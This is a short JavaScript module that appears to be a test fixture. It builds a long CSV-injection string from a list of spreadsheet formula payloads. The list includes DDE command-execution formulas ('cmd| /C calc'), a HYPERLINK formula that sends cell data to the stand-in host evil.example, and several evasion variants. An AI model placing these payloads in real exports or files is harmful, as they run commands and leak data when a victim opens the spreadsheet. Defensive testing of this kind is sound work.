const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"Refund")',
  '"=1+1","=2+2";=3+3',
  '+1+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  "'=1+1",
  '＝1+1',
  '\t=1+1',
];

/** As much as a visitor can write at once, of what spreadsheets would execute. */
export const csvInjection = `${FORMULAS.join('\r\n')}\r\n`.repeat(60).slice(0, 7_999).concat('=');
